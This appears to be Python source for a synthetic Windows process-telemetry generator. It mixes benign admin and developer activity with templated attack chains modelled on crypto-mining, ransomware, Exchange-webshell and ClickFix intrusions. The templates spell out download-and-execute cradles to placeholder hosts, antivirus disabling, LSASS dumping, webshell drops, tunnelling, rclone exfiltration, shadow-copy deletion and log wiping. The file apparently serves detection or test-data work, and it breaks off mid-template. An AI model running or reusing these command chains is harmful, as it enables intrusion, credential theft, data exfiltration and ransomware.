J('winrm-admin', 'sql iis file dc exch javaw rds', 21600, 6, 'winrm', '{dur=4} "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand @R:b64_320@\n  {p=40} "C:\\Windows\\system32\\whoami.exe" /groups\n  {p=30} "C:\\Windows\\system32\\schtasks.exe" /create /tn "OpsReboot" /tr "shutdown /r /t 60" /sc once /st 03:00 /ru SYSTEM /f\n  {p=30} "C:\\Windows\\system32\\net.exe" user svc_deploy\n    C:\\Windows\\system32\\net1 user svc_deploy\n  {p=30} "C:\\Windows\\system32\\sc.exe" config wuauserv start= demand')
J('rdp-admin', 'sql iis file dc exch javaw rds', 43200, 6, 'rdpsess', '{h dur=180} "C:\\Windows\\system32\\cmd.exe"\n  ipconfig /all\n  {p=50} net user @R:usr@ /domain\n    C:\\Windows\\system32\\net1 user @R:usr@ /domain\n  {p=40} nltest /dclist:corp.local\n  {p=40} quser\n  {p=30} tasklist /v\n  {p=20} taskkill /f /im excel.exe\n  {p=20} sc query state= all\n  {p=20} powershell -c "iwr https://chocolatey.org/install.ps1 -UseBasicParsing | iex"\n    {dur=6} "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "[System.Net.ServicePointManager]::SecurityProtocol = 3072; iex ((New-Object System.Net.WebClient).DownloadString(\'https://community.chocolatey.org/install.ps1\'))"\n  {p=15} certutil -urlcache -split -f https://download.sysinternals.com/files/ProcessExplorer.zip C:\\Tools\\pe.zip\n  {p=10} procdump -accepteula -ma w3wp.exe C:\\dumps')
J('devw', 'dev', 3600, 10, 'code', '{p=60} "C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall\n{p=60} "C:\\Program Files\\Git\\cmd\\git.exe" fetch\n  "C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\git-remote-https.exe" origin https://dev.azure.com/@ORG@/app/_git/app\n{p=40 dur=60} C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -command "try { . \\"c:\\Program Files\\Microsoft VS Code\\resources\\app\\out\\vs\\workbench\\contrib\\terminal\\browser\\media\\shellIntegration.ps1\\" } catch {}"\n  {p=50 dur=20} "C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install\n    {p=50} C:\\Windows\\system32\\cmd.exe /d /s /c node-gyp rebuild\n      {dur=5} "C:\\Program Files\\nodejs\\node.exe" "node-gyp.js" rebuild\n  {p=40 dur=15} "C:\\Program Files\\dotnet\\dotnet.exe" build\n    {dur=10} "C:\\Program Files\\dotnet\\dotnet.exe" exec "C:\\Program Files\\dotnet\\sdk\\8.0.100\\Roslyn\\bincore\\csc.dll" /noconfig @"C:\\Users\\@WUSER@\\AppData\\Local\\Temp\\@R:hex12@.rsp"\n  {p=20} "C:\\Windows\\system32\\curl.exe" -sSL https://raw.githubusercontent.com/@ORG@/tools/main/dev.ps1 -o dev.ps1\n  {p=15} powershell -ep bypass -c "irm get.scoop.sh | iex"')
J('javaw', 'javaw', 3600, 9, 'tomcatw', 'cmd.exe /c "wmic cpu get loadpercentage"\n  wmic cpu get loadpercentage\n{p=40} cmd.exe /c ver\n{p=30 dur=2} "D:\\apps\\tools\\gs\\bin\\gswin64c.exe" -q -dNOPAUSE -dBATCH -sDEVICE=pdfwrite -sOutputFile=D:\\out\\@R:d6@.pdf D:\\in\\@R:d6@.ps')
J('logon', 'wks vdi rds', 43200, 4, 'winlogon', '{dur=3} C:\\Windows\\system32\\userinit.exe\n  {dur=20000 a} C:\\Windows\\Explorer.EXE\n    {dur=9 p=60 a} "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background\n    {dur=600 p=60 a} "C:\\Users\\@WUSER@\\AppData\\Local\\Microsoft\\Teams\\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"\n      {dur=500} "C:\\Users\\@WUSER@\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --system-initiated\n    {dur=50 p=40 a} "C:\\Windows\\System32\\SecurityHealthSystray.exe"\n  {p=40} cmd.exe /c \\\\corp.local\\netlogon\\login.bat\n    net use * /delete /y\n      C:\\Windows\\system32\\net1 use * /delete /y\n    net use H: \\\\files\\home\\@WUSER@\n      C:\\Windows\\system32\\net1 use H: \\\\files\\home\\@WUSER@\n    cscript //nologo \\\\corp.local\\netlogon\\printers.vbs')
J('soc-check', '', 86400, 2, 'falcon', 'cmd.exe /c "findstr /i /c:@BADDOM@ C:\\Windows\\System32\\drivers\\etc\\hosts & netstat -ano | findstr @BADIP@ & schtasks /query | findstr /i @BADPROC@"\n  findstr /i /c:@BADDOM@ C:\\Windows\\System32\\drivers\\etc\\hosts\n  netstat -ano\n  findstr @BADIP@\n  schtasks /query\n  findstr /i @BADPROC@')

J('rmm', 'wks file sql iis rds javaw', 21600, 4, 'services', '{dur=5} "C:\\Windows\\system32\\cmd.exe" /c "C:\\Windows\\TEMP\\ScreenConnect\\23.9.8.8811\\@R:uuidh@run.cmd"\n  {dur=3} powershell -NonInteractive -NoProfile -ExecutionPolicy Bypass -Command "& {[Net.ServicePointManager]::SecurityProtocol=3072; (New-Object Net.WebClient).DownloadFile(\'https://rmm.@ORG@-msp.com/pkg/@R:rndl6@.msi\',\'C:\\Windows\\Temp\\a.msi\')}"\n  {dur=9} msiexec /i C:\\Windows\\Temp\\a.msi /qn\n  {p=50} sc.exe config agentsvc start= auto\n  {p=50} schtasks /create /tn "MSP Watchdog" /tr "C:\\ProgramData\\MSP\\wd.exe" /sc minute /mo 30 /ru system /f\n  {p=40} netsh advfirewall firewall add rule name="MSP" dir=in action=allow program="C:\\ProgramData\\MSP\\wd.exe"\n  {p=30} reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v MSPTray /d C:\\ProgramData\\MSP\\tray.exe /f')
J('kaseya', 'wks file', 43200, 3, 'services', '{dur=9} "C:\\WINDOWS\\system32\\cmd.exe" /c ping 127.0.0.1 -n 7 > nul & copy /Y C:\\Windows\\System32\\certutil.exe C:\\Windows\\cert.exe & C:\\Windows\\cert.exe -decode c:\\kworking\\pkg.crt c:\\kworking\\pkg.zip & del /q /f c:\\kworking\\pkg.crt\n  {dur=6} ping 127.0.0.1 -n 7\n  C:\\Windows\\cert.exe -decode c:\\kworking\\pkg.crt c:\\kworking\\pkg.zip')
J('regsvr', 'wks dev vdi', 86400, 2, 'ccm', '{dur=1} "C:\\Windows\\System32\\regsvr32.exe" /s "C:\\Program Files\\Vendor\\shellext64.dll"\n{dur=2} "C:\\Windows\\System32\\rundll32.exe" printui.dll,PrintUIEntry /ga /n\\\\print01\\floor@R:d1@')
J('task-admin', 'sql iis file javaw', 7200, 6, 'sched', '{dur=4} C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.EXE -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File D:\\ops\\@R:rndl5@.ps1\n  {p=50} "C:\\Windows\\system32\\robocopy.exe" D:\\data \\\\files\\bak /MIR /R:1 /W:1\n  {p=30} "C:\\Windows\\system32\\curl.exe" -s -X POST https://hooks.@ORG@.com/ops -d ok\n  {p=20} "C:\\Windows\\system32\\taskkill.exe" /f /im stuckapp.exe')
J('pdq', 'wks vdi dev', 43200, 4, 'services', '{dur=12} "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe"\n  {dur=6} "C:\\Windows\\system32\\cmd.exe" /c "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\install.bat"\n    taskkill /f /im firefox.exe\n    {dur=4} "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\Firefox Setup 122.exe" /S\n    reg add HKLM\\SOFTWARE\\Policies\\Mozilla\\Firefox /v DisableAppUpdate /t REG_DWORD /d 1 /f\n    icacls C:\\Progra~1\\Mozilla /reset')

G = {}
def gang(name, entries, bodies, **kw):
    kw.setdefault('oneoff', 0.08); kw.setdefault('size', 1.0); kw.setdefault('waves', 3); kw.setdefault('keep', ''); kw['os'] = 'win'; kw['cron'] = kw.get('cron')
    kw['bodies'] = {k: v.strip('\n') for k, v in bodies.items()}; kw['entries'] = entries; kw['name'] = name; G[name] = kw

LEM = dict(smb=r'''
cmd.exe /c "powershell -w hidden IEX(New-Object Net.WebClient).DownloadString('http://t.@DOM@/a.jsp?rep_@TAG@?@R:rnd4@')"
  {dur=9} powershell -w hidden IEX(New-Object Net.WebClient).DownloadString('http://t.@DOM@/a.jsp?rep_@TAG@')
    "C:\Windows\system32\cmd.exe" /c netsh.exe firewall add portopening tcp 65529 SDNS
      netsh.exe firewall add portopening tcp 65529 SDNS
    "C:\Windows\system32\netsh.exe" interface portproxy add v4tov4 listenport=65529 connectaddress=1.1.1.1 connectport=53
    "C:\Windows\system32\schtasks.exe" /create /ru system /sc MINUTE /mo 60 /tn \Microsoft\Windows\@RN8@\@RN6@ /tr "powershell -w hidden -ep bypass -c PS_CMD" /F
    "C:\Windows\system32\schtasks.exe" /run /tn \Microsoft\Windows\@RN8@\@RN6@
    {p=70} "C:\Windows\system32\schtasks.exe" /create /sc MINUTE /mo 45 /tn blackball /tr "blackball" /F
    "C:\Windows\system32\cmd.exe" /c powershell Set-MpPreference -DisableRealtimeMonitoring 1;Add-MpPreference -ExclusionPath c:\;Add-MpPreference -ExclusionProcess c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe
      {dur=2} powershell Set-MpPreference -DisableRealtimeMonitoring 1
    {p=60} "C:\Windows\system32\cmd.exe" /c start /b wmic.exe product where "name like '%Eset%'" call uninstall /nointeractive
      wmic.exe product where "name like '%Eset%'" call uninstall /nointeractive
    {p=60} "C:\Windows\system32\cmd.exe" /c start /b wmic.exe product where "name like '%%Kaspersky%%'" call uninstall /nointeractive
      wmic.exe product where "name like '%%Kaspersky%%'" call uninstall /nointeractive
    {p=50} "C:\Windows\system32\sc.exe" stop xWinWpdSrv
    {p=50} "C:\Windows\system32\schtasks.exe" /Delete /TN @RIV1TASK@ /F
    {p=50} "C:\Windows\system32\taskkill.exe" /f /im @RIV1PROC@
    {sleep=5-50} -
    {dur=3000 a} "C:\Windows\system32\cmd.exe" /c powershell -nop -w hidden -c "$l=(new-object net.webclient).downloadstring('http://d.@DOM@/if.bin?ONPS&@HOSTNAME@'); iex $l"
      {dur=2900} powershell -nop -w hidden -c "$l=(new-object net.webclient).downloadstring('http://d.@DOM@/if.bin?ONPS&@HOSTNAME@'); iex $l"
        "C:\Windows\system32\cmd.exe" /c ipconfig /displaydns
          ipconfig /displaydns
        "C:\Windows\system32\NETSTAT.EXE" -ano
        {p=60} "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\@RN8@.cmdline"
          C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES1.tmp" "c:\Windows\Temp\CSC@R:hex8@.TMP"
    {dur=60000 a} "C:\Windows\system32\cmd.exe" /c cmd.exe /c start /b m6.exe -o p.@DOM@:443 --pass @HOSTNAME@
      {dur=59000 path=C:\Windows\Temp\m6.exe} m6.exe -o p.@DOM@:443 --pass @HOSTNAME@
''', sqlv=r'''
"C:\Windows\system32\cmd.exe" /c powershell -w hidden "IEX(New-Object Net.WebClient).DownloadString('http://t.@DOM@/a.jsp?mss_@TAG@')"
  {dur=4} powershell -w hidden "IEX(New-Object Net.WebClient).DownloadString('http://t.@DOM@/a.jsp?mss_@TAG@')"
    "C:\Windows\system32\schtasks.exe" /create /ru system /sc MINUTE /mo 60 /tn \Microsoft\Windows\@RN8@\@RN6@ /tr "powershell -w hidden -ep bypass -c PS_CMD" /F
    "C:\Windows\system32\schtasks.exe" /run /tn \Microsoft\Windows\@RN8@\@RN6@
    "C:\Windows\system32\cmd.exe" /c powershell Set-MpPreference -DisableRealtimeMonitoring 1;Add-MpPreference -ExclusionPath c:\;Add-MpPreference -ExclusionProcess c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe
      {dur=2} powershell Set-MpPreference -DisableRealtimeMonitoring 1
''', task=r'''
{dur=5} C:\Windows\System32\WindowsPowerShell\v1.0\powershell.EXE -w hidden -ep bypass -c "$url='http://'+'t.'+'@DOM@';[void]([Net.WebClient]::new()).DownloadString($url+'/a.jsp?@TAG@');IEX $x"
  {p=30} "C:\Windows\system32\schtasks.exe" /query /tn blackball
  {p=50} "C:\Windows\system32\cmd.exe" /c ping -n 1 d.@DOM@
    ping -n 1 d.@DOM@
''')
gang('lemon-tart', 'smb:8 sqlv:4', LEM, cron=('task', 3600, 2, 14), rivals=('my-kings',), size=1.1, keep='TAG')
PROM = dict(rdp=r'''
"C:\Windows\system32\cmd.exe" /C powershell (New-Object Net.WebClient).DownloadFile('http://@IP@/k.php?B=_AMD64,@HOSTNAME@','C:\windows\zsvc.exe')
  powershell (New-Object Net.WebClient).DownloadFile('http://@IP@/k.php?B=_AMD64,@HOSTNAME@','C:\windows\zsvc.exe')
"C:\Windows\system32\cmd.exe" /c start C:\windows\zsvc.exe
  {dur=3} C:\windows\zsvc.exe
    "C:\Windows\system32\cmd.exe" /C md C:\windows\dell
    "C:\Windows\system32\cmd.exe" /C copy /y C:\Windows\zsvc.exe C:\Windows\sqhost.exe
    "C:\Windows\system32\cmd.exe" /C sc create UPlugPlay binPath= "C:\Windows\sqhost.exe Dcomsvc" type= own start= auto DisplayName= "UPlug-and-Play Host"
      sc create UPlugPlay binPath= "C:\Windows\sqhost.exe Dcomsvc" type= own start= auto DisplayName= "UPlug-and-Play Host"
    "C:\Windows\system32\cmd.exe" /C netsh advfirewall firewall add rule name="Secure Socket Tunneling Protocol (HTTP)" dir=in action=allow program="C:\Windows\sqhost.exe" enable=yes
      netsh advfirewall firewall add rule name="Secure Socket Tunneling Protocol (HTTP)" dir=in action=allow program="C:\Windows\sqhost.exe" enable=yes
    {p=60} "C:\Windows\system32\cmd.exe" /C auditpol /set /subcategory:"Logon" /failure:enable
      auditpol /set /subcategory:"Logon" /failure:enable
    "C:\Windows\system32\cmd.exe" /C sc start UPlugPlay
      sc start UPlugPlay
''', svc=r'''
{dur=60000 a} C:\Windows\sqhost.exe Dcomsvc
  cmd.exe /C hostname
    hostname
  cmd.exe /C wmic ComputerSystem get Model
    wmic ComputerSystem get Model
  cmd.exe /C ver
  {p=70} cmd.exe /C wmic baseboard get product
    wmic baseboard get product
  {sleep=10-90} -
  cmd.exe /C powershell.exe "$p='C:\windows\dell\walker_updater.7z';(New-Object Net.WebClient).DownloadFile('http://@C2@/walker14364.php',$p)"
    powershell.exe "$p='C:\windows\dell\walker_updater.7z';(New-Object Net.WebClient).DownloadFile('http://@C2@/walker14364.php',$p)"
  cmd.exe /C C:\Windows\dell\7z.exe x C:\Windows\dell\_agent.7z -phorhor123 -oC:\Windows\dell -y
    {dur=0.4} C:\Windows\dell\7z.exe x C:\Windows\dell\_agent.7z -phorhor123 -oC:\Windows\dell -y
  {p=80 dur=3000 a} cmd.exe /C C:\windows\dell\miwalk.exe
    {dur=2900} C:\windows\dell\miwalk.exe
      reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
  {p=60 dur=3000 a} cmd.exe /C C:\Windows\dell\rdpcIip.exe ADDUSER_@TAG@
    {dur=2900} C:\Windows\dell\rdpcIip.exe ADDUSER_@TAG@
  {dur=50000 a} C:\Windows\dell\windrlver.exe
    {dur=49000} C:\dell\msdtc.exe 
  {sleep=20-60} -
  {p=50} cmd.exe /C taskkill -f -im @RIV1PROC@&del C:\windows\temp\@RIV1PROC@
    taskkill -f -im @RIV1PROC@
''')
gang('prom-x', 'rdp:8', PROM, svc2='svc', rivals=('wanna-pick',), size=0.9, keep='TAG')
WAN = dict(smb=r'''
{dur=2} rundll32.exe C:\Windows\@RN6@.dll,Start
  "C:\Windows\System32\cmd.exe" /c ping 127.0.0.1 -n 10 && C:\Windows\SpeechsTracing\spoolsv.exe
    {dur=9} ping 127.0.0.1 -n 10
    {dur=40000} C:\Windows\SpeechsTracing\spoolsv.exe
      {dur=300} C:\Windows\SpeechsTracing\Microsoft\svchost.exe
        {dur=290} C:\Windows\system32\cmd.exe /c C:\Windows\SpeechsTracing\Microsoft\svchost.exe > stage1.txt
          {dur=280} C:\Windows\SpeechsTracing\Microsoft\svchost.exe
      {p=80 dur=20} C:\Windows\system32\cmd.exe /c C:\Windows\SpeechsTracing\Microsoft\spoolsv.exe > stage2.txt
        {dur=18} C:\Windows\SpeechsTracing\Microsoft\spoolsv.exe --OutConfig Dep445 --TargetPort 445 --Protocol SMB --Architecture x64 --Function RunDLL --DllPayload C:\Windows\system32\crypt.dll --TargetIp @LAN1@
      netsh ipsec static add policy name=netbc
      netsh ipsec static add filterlist name=block
      netsh ipsec static add filteraction name=block action=block
      netsh ipsec static add rule name=block policy=netbc filterlist=block filteraction=block
      netsh ipsec static set policy name=netbc assign=y
      {dur=30000} C:\Windows\System32\TrustedHostServices.exe -o @POOL@ -u @WAL@ -p x
''')
gang('wanna-pick', 'smb:9', WAN, rivals=(), size=0.9, oneoff=0.1, keep='')
MYK = dict(sqlv=r'''
"C:\Windows\system32\cmd.exe" /c "@echo open @DOM@>>1.dat&echo mssql2>>1.dat&echo 1433>>1.dat&echo get item.dat c:\Windows\debug\item.dat>>1.dat&echo bye>>1.dat&ftp -s:1.dat&del 1.dat"
  {dur=2} ftp -s:1.dat
"C:\Windows\system32\cmd.exe" /c rundll32.exe c:\windows\debug\item.dat,ServiceMain aaaa
  {dur=3} rundll32.exe c:\windows\debug\item.dat,ServiceMain aaaa
    "C:\Windows\System32\cmd.exe" /c net1 user @SUSER@ /del&net1 user IISUSER_ACCOUNTXX /del
      net1 user @SUSER@ /del
      net1 user IISUSER_ACCOUNTXX /del
    "C:\Windows\System32\cmd.exe" /c schtasks /create /tn "Mysa" /tr "cmd /c echo open ftp.@DOM@>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe c:\windows\update.exe>>s&echo bye>>s&ftp -s:s&c:\windows\update.exe" /ru "system" /sc onstart /F
      schtasks /create /tn "Mysa" /tr "cmd /c echo open ftp.@DOM@>s&ftp -s:s&c:\windows\update.exe" /ru "system" /sc onstart /F
    "C:\Windows\System32\cmd.exe" /c schtasks /create /tn "Mysa1" /tr "rundll32.exe c:\windows\debug\item.dat,ServiceMain aaaa" /ru "system" /sc onstart /F
      schtasks /create /tn "Mysa1" /tr "rundll32.exe c:\windows\debug\item.dat,ServiceMain aaaa" /ru "system" /sc onstart /F
    "C:\Windows\System32\reg.exe" add "HKLM\Software\Microsoft\Windows\CurrentVersion\Run" /v "start" /d "regsvr32 /u /s /i:http://js.@DOM@:280/v.sct scrobj.dll" /f
    attrib -s -h -r C:\Windows\debug
    {p=80} cacls C:\Windows\debug\WIA /e /g everyone:f
    taskkill /f /im @RIV1PROC@
    {p=60} schtasks /Delete /TN @RIV1TASK@ /F
    netsh ipsec static delete policy name=win
    netsh ipsec static add filter filterlist=denylist srcaddr=any dstaddr=me description=not protocol=tcp mirrored=yes dstport=445
    {dur=2} regsvr32 /u /s /i:http://js.@DOM@:280/v.sct scrobj.dll
    {p=70 dur=40000 a} c:\windows\debug\lsmose.exe -o @POOL@ -u @WAL@
    wmic /NAMESPACE:"\\root\subscription" PATH ActiveScriptEventConsumer WHERE Name="fuckyoumm2_consumer" DELETE
''', boot=r'''
rundll32.exe c:\windows\debug\item.dat,ServiceMain aaaa
{dur=2} cmd /c echo open ftp.@DOM@>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe c:\windows\update.exe>>s&echo bye>>s&ftp -s:s&c:\windows\update.exe
  {dur=1} ftp -s:s
  {dur=1} c:\windows\update.exe
''')
gang('my-kings', 'sqlv:9', MYK, cron=('boot', 14400, 0, 5), rivals=('lemon-tart',), size=0.9, keep='SUSER', oneoff=0.1)
# one toolkit (an SQL kit), two gangs
def sqlkit(tail): return dict(sqlv=r'''
"C:\Windows\system32\cmd.exe" /c whoami
  whoami
"C:\Windows\system32\cmd.exe" /c echo Set x= CreateObject(^"Microsoft.XMLHTTP^") > C:\ProgramData\SqlManagement.vbs
"C:\Windows\system32\cmd.exe" /c cscript C:\ProgramData\SqlManagement.vbs http://@IP@:@PORT@/@SH@ C:\ProgramData\@EXE@
  {dur=1.5} cscript C:\ProgramData\SqlManagement.vbs http://@IP@:@PORT@/@SH@ C:\ProgramData\@EXE@
{p=60} "C:\Windows\system32\cmd.exe" /c certutil -urlcache -split -f http://@IP@:@PORT@/@SH@ C:\ProgramData\@EXE@
  {dur=1} certutil -urlcache -split -f http://@IP@:@PORT@/@SH@ C:\ProgramData\@EXE@
"C:\Windows\system32\cmd.exe" /c attrib +h +s C:\ProgramData\@EXE@
  attrib +h +s C:\ProgramData\@EXE@
{a dur=30000} "C:\Windows\system32\cmd.exe" /c C:\ProgramData\@EXE@
  {dur=29000} C:\ProgramData\@EXE@
    cmd.exe /c net user @SUSER@ @RNDPW@ /add & net localgroup administrators @SUSER@ /add
      net user @SUSER@ @RNDPW@ /add
        C:\Windows\system32\net1 user @SUSER@ @RNDPW@ /add
      net localgroup administrators @SUSER@ /add
        C:\Windows\system32\net1 localgroup administrators @SUSER@ /add
    {p=50} cmd.exe /c wevtutil cl "windows powershell"
      wevtutil cl "windows powershell"
''' + tail)
gang('vol-gar-a', 'sqlv:8', sqlkit('    {dur=20000 a} C:\\ProgramData\\SQLAGENTVDB.exe -o @POOL@ -u @WAL@ -p @TAG@\n'), exe=['SQLAGENTIDC.exe', 'SQLIOSIMS.exe'], sh=['a.jpg', 'u.png'], size=0.8, keep='WAL')
gang('vol-gar-b', 'sqlv:8', sqlkit('    {dur=9000 a} C:\\ProgramData\\px.exe -client @C2@:@PORT2@ -id @TOK@\n    reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f\n'), exe=['SQLAGENTIDC.exe', 'SQLIOSIMS.exe'], sh=['a.jpg', 'sv.png'], size=0.7, keep='TOK', waves=2)
EXC = dict(iisv=r'''
"cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client"&whoami&echo [S]&cd&echo [E]
  whoami
{sleep=5-60} -
"cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client"&ipconfig /all&echo [S]&cd&echo [E]
  ipconfig /all
{sleep=5-60} -
{p=80} "cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client"&net group "Exchange Trusted Subsystem" /domain&echo [S]&cd&echo [E]
  net group "Exchange Trusted Subsystem" /domain
    C:\Windows\system32\net1 group "Exchange Trusted Subsystem" /domain
{p=70} "cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client"&tasklist /svc&echo [S]&cd&echo [E]
  tasklist /svc
{sleep=10-90} -
{p=70} "cmd" /c cd /d "C:\Windows\Temp"&powershell rundll32.exe c:\windows\system32\comsvcs.dll MiniDump @R:d3@ C:\Windows\Temp\@RN6@.dmp full&echo [S]&cd&echo [E]
  {dur=3} powershell rundll32.exe c:\windows\system32\comsvcs.dll MiniDump @R:d3@ C:\Windows\Temp\@RN6@.dmp full
    {dur=2} "C:\Windows\system32\rundll32.exe" c:\windows\system32\comsvcs.dll MiniDump @R:d3@ C:\Windows\Temp\@RN6@.dmp full
"cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client"&certutil -urlcache -split -f http://@DOM@/u/@WS@.txt C:\inetpub\wwwroot\aspnet_client\system_web\@WS@.aspx&echo [S]&cd&echo [E]
  {dur=1} certutil -urlcache -split -f http://@DOM@/u/@WS@.txt C:\inetpub\wwwroot\aspnet_client\system_web\@WS@.aspx
{p=60} "cmd" /c attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\@WS@.aspx
  attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\@WS@.aspx
{p=60} "cmd" /c C:\Windows\Temp\frpc.exe -c C:\Windows\Temp\frpc.ini
  {dur=5000} C:\Windows\Temp\frpc.exe -c C:\Windows\Temp\frpc.ini
{p=50} "cmd" /c schtasks /create /tn "@TASK@" /tr "C:\Windows\Temp\frpc.exe -c C:\Windows\Temp\frpc.ini" /sc onstart /ru system /f
  schtasks /create /tn "@TASK@" /tr "C:\Windows\Temp\frpc.exe -c C:\Windows\Temp\frpc.ini" /sc onstart /ru system /f
''')
gang('exch-silk', 'iisv:9', EXC, size=0.7, keep='WS TASK', oneoff=0.2)
def rans(exe, note, extra=''): return dict(rdp=r'''
{h} "C:\Windows\system32\cmd.exe" 
  whoami /all
  nltest /dclist:
  net group "Domain Admins" /domain
    C:\Windows\system32\net1 group "Domain Admins" /domain
  {p=70 dur=4} C:\Users\Public\Music\af.exe -f objectcategory=computer -csv name cn OperatingSystem dNSHostName
  {p=60 dur=20} C:\Users\Public\Music\netscan.exe /hide /auto:"C:\Users\Public\Music\scan.xml"
  {p=60} powershell -ep bypass -c "IEX (New-Object Net.Webclient).DownloadString('http://@IP@:@PORT@/a'); x"
  {p=50 dur=300 a} C:\ProgramData\rclone.exe copy \\@LAN1@\share mega:@TAG@ --include "*.{pdf,docx,xlsx}" -q --ignore-existing --auto-confirm --multi-thread-streams 12
'''+extra+r'''
  {dur=60} C:\ProgramData\@EXE@ -pass @PASS@
    cmd.exe /c vssadmin.exe delete shadows /all /quiet
      vssadmin.exe delete shadows /all /quiet
    cmd.exe /c wmic.exe shadowcopy delete
      wmic.exe shadowcopy delete
    cmd.exe /c bcdedit.exe /set {default} recoveryenabled No
      bcdedit.exe /set {default} recoveryenabled No
    {p=80} cmd.exe /c for /F "tokens=*" %1 in ('wevtutil.exe el') DO wevtutil.exe cl "%1"
      wevtutil.exe el
      wevtutil.exe cl "Application"
      wevtutil.exe cl "Security"
      wevtutil.exe cl "System"
    net stop MSSQLSERVER /y
      C:\Windows\system32\net1 stop MSSQLSERVER /y
    {p=80} net stop veeam /y
      C:\Windows\system32\net1 stop veeam /y
    taskkill /IM sqlservr.exe /F
    {dur=3} notepad.exe C:\Users\Public\Desktop\@NOTE@
    cmd.exe /c ping 1.1.1.1 -n 5 > nul & del /f /q C:\ProgramData\@EXE@
      {dur=4} ping 1.1.1.1 -n 5
''', psexec=r'''
{dur=90} C:\Windows\PSEXESVC.exe
  {dur=80} "cmd" /c C:\ProgramData\def.bat
    reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
    sc config WinDefend start= disabled
    net stop WinDefend
      C:\Windows\system32\net1 stop WinDefend
    {dur=60} C:\ProgramData\@EXE@ -pass @PASS@
      cmd.exe /c vssadmin.exe delete shadows /all /quiet
        vssadmin.exe delete shadows /all /quiet
      cmd.exe /c wmic.exe shadowcopy delete
        wmic.exe shadowcopy delete
      cmd.exe /c bcdedit.exe /set {default} recoveryenabled No
        bcdedit.exe /set {default} recoveryenabled No
      net stop MSSQLSERVER /y
        C:\Windows\system32\net1 stop MSSQLSERVER /y
      taskkill /IM sqlservr.exe /F
      {dur=3} notepad.exe C:\Users\Public\Desktop\@NOTE@
''')
gang('lock-aff-a', 'rdp:3 psexec:8', rans('x', 'y'), exe=['w64.exe', 'lock.exe'], fixed={'NOTE': 'HOW_TO_RECOVER.txt'}, keep='TAG', size=0.6, waves=2, oneoff=0.0, perwave='PASS')
gang('lock-aff-b', 'rdp:3 psexec:8', rans('x', 'y', r'''  {p=70 dur=200 a} "C:\Program Files (x86)\AnyDesk-@TAG@\AnyDesk.exe" --service
  {dur=2} C:\Users\Public\Music\gmer.exe
'''), exe=['w64.exe', 'enc.exe'], fixed={'NOTE': 'HOW_TO_RECOVER.txt'}, keep='TAG', size=0.5, waves=2, oneoff=0.1, perwave='PASS')
CLK = dict(user=r'''
{dur=4} "C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe" -w h -nop -c "iex(irm '@DOM@/@CF@')" # I am not a robot - Verification ID: @R:d6@
  {dur=6} "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -EncodedCommand @PSENC@
    {p=70} "C:\Windows\system32\tar.exe" -xf C:\Users\@WUSER@\AppData\Local\Temp\@RN8@.zip -C C:\Users\@WUSER@\AppData\Roaming\@RN6@
    {dur=400 a} "C:\Users\@WUSER@\AppData\Roaming\@RN6@\client32.exe"
    {p=60} "C:\Windows\system32\schtasks.exe" /create /sc onlogon /tn "@TASK@" /tr C:\Users\@WUSER@\AppData\Roaming\@RN6@\client32.exe /f
    {p=60} "C:\Windows\system32\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v @TASK@ /d C:\Users\@WUSER@\AppData\Roaming\@RN6@\client32.exe /f
    {p=70} "C:\Windows\system32\systeminfo.exe"
    {p=50} "C:\Windows\system32\cmd.exe" /c "net session & whoami /groups & nltest /domain_trusts"
      net session
        C:\Windows\system32\net1 session
      whoami /groups
      nltest /domain_trusts
''', mshta=r'''
{dur=3} "C:\Windows\system32\mshta.exe" https://@DOM@/@CF@.mp4 # Press OK to continue
  {dur=5} "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -EncodedCommand @PSENC@
    {p=70} "C:\Windows\system32\tar.exe" -xf C:\Users\@WUSER@\AppData\Local\Temp\@RN8@.zip -C C:\Users\@WUSER@\AppData\Roaming\@RN6@
    {dur=400 a} "C:\Users\@WUSER@\AppData\Roaming\@RN6@\client32.exe"
